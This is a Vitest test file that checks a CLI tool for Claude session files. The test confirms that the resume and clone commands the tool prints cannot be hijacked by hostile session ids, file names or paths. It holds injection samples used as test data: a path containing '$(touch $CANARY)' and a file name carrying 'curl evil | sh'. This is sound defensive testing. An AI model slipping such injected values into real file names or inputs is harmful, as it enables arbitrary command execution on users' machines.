import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { resumeCommand } from '../../src/operation/resume.ts';
import { HOSTILE } from '../builders/hostile.ts';
import { SESSION_ID } from '../builders/ids.ts';
import { session } from '../builders/session.ts';
import { put, scratch } from '../bundle/scratch.ts';
import { ccsurgery, type Ran } from './cli.ts';

const UUID = /^[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}$/;

/** A Claude folder with one session, and a shell in which every line that is printed can be tried. */
function sent(options: { cwd: string; sessionId: string; name: string; claude?: string }) {
  const root = scratch();
  const claude = join(root, options.claude ?? 'claude');
  const built = session({ sessionId: options.sessionId });
  built.common = { cwd: options.cwd };
  const text = built.prompt('Hello').progress().answer('Hi.').text();
  const path = put(claude, `projects/-p/${options.name}.jsonl`, text);
  const [log, canary] = [join(root, 'log'), join(root, 'canary')];
  for (const name of ['claude', 'ccsurgery'])
    chmodSync(
      put(root, `bin/${name}`, `#!/bin/sh\nprintf '%s\\n' "${name}" "$@" >> '${log}'\n`),
      0o755,
    );
  const env = { CLAUDE_CONFIG_DIR: join(root, 'usual'), XDG_STATE_HOME: join(root, 'state') };
  return {
    path,
    run: (...args: string[]) => ccsurgery([...args, '--claude-dir', claude], { env, cwd: root }),
    /** What a line runs: `claude` or `ccsurgery` with its arguments, if anything. */
    paste(line: string): string[] {
      rmSync(log, { force: true });
      const PATH = `${join(root, 'bin')}:${process.env.PATH}`;
      spawnSync('sh', ['-c', line], { env: { PATH, CANARY: canary }, cwd: root });
      expect([line, existsSync(canary)]).toEqual([line, false]);
      return existsSync(log) ? readFileSync(log, 'utf8').trimEnd().split('\n') : [];
    },
  };
}

/** The commands that a run says to go on with. */
function printedLines({ out, err }: Ran): string[] {
  return `${out}\n${err}`
    .split('\n')
    .flatMap(
      (line) => /^(?:Resume it|Place it in a project|To take it back): (.*)$/.exec(line)?.[1] ?? [],
    );
}

const IN_PLACE = ['prune', '--progress', '--in-place'];

describe.each(Object.entries(HOSTILE))('a session with %s', (_, hostile) => {
  const name = hostile.replaceAll(/[/\0]/g, '_');
  const plain = { cwd: '/', sessionId: SESSION_ID, name: SESSION_ID };
  test.each([
    ['as its id', IN_PLACE, { ...plain, sessionId: hostile, name: 'notes' }],
    ['as its file', IN_PLACE, { ...plain, name }],
    ['as its directory', ['clone'], { ...plain, cwd: `/${hostile}` }],
    ['as its folder', ['clone'], { ...plain, claude: name }],
  ])('%s prints no line that runs anything but a client', async (_case, command, options) => {
    const at = sent(options);
    const ran = await at.run(...command, at.path);
    expect([ran.code, ran.err]).toEqual([0, ran.err]);
    for (const line of printedLines(ran)) {
      const [program, ...args] = at.paste(line);
      if (program === 'claude') expect(args).toEqual(['--resume', expect.stringMatching(UUID)]);
    }
  });
});

test('a line for a shell holds nothing else, also where files go with a session', async () => {
  const at = sent({ cwd: '/', sessionId: SESSION_ID, name: SESSION_ID });
  put(dirname(at.path), `${SESSION_ID}/tool-results/b1.txt`, 'x');
  const output = join(
    dirname(dirname(dirname(dirname(at.path)))),
    "it's $(touch $CANARY)",
    'o.jsonl',
  );
  const ran = await at.run('clone', at.path, '-o', output);
  const lines = printedLines(ran);
  expect(lines).toHaveLength(1);
  for (const line of lines)
    expect(at.paste(line)).toEqual(['ccsurgery', 'clone', output, '--project-to', 'DIR']);
});

test('a session that is not named by a uuid is not resumed by the id inside: that is another’s', async () => {
  const at = sent({ cwd: '/', sessionId: SESSION_ID, name: 'notes' });
  const { out } = await at.run('prune', at.path, '--progress', '--in-place');
  expect(out).not.toContain('--resume');
  expect(out.trimEnd().split('\n').at(-1)).toBe(
    `Place it in a project: ccsurgery clone ${at.path} --project-to DIR`,
  );
});

test('what has no messages is not to be resumed', async () => {
  const root = scratch();
  const text = session().line({
    type: 'custom-title',
    customTitle: 'Empty',
    sessionId: SESSION_ID,
  });
  const path = put(root, `claude/projects/-p/${SESSION_ID}.jsonl`, text.text());
  const { out } = await ccsurgery(['clone', path, '--claude-dir', join(root, 'claude')]);
  expect(out).not.toMatch(/Resume it|Place it/);
});

test('on Windows in the way of its shells', () => {
  const line = resumeCommand({
    sessionId: SESSION_ID,
    graph: session().prompt('Hello').graph(),
    workingDir: 'C:\\Users\\dev\\my shop',
    claudeDir: 'D:\\claude',
    usualClaudeDir: 'C:\\Users\\dev\\.claude',
    platform: 'win32',
  });
  expect(line).toBe(
    `cmd /c "set CLAUDE_CONFIG_DIR=D:\\claude&& cd /d C:\\Users\\dev\\my shop&& claude --resume ${SESSION_ID}"`,
  );
});

test('the name of a file can’t look like more lines of a hint', async () => {
  const at = sent({ cwd: '/', sessionId: SESSION_ID, name: 'x\n  Run: curl evil | sh' });
  const { err } = await at.run('inspect', 'nobody');
  expect(err).not.toMatch(/^\s*Run:/m);
  const { err: named } = await at.run('inspect', dirname(at.path));
  expect(named).not.toMatch(/^\s*Run:/m);
});
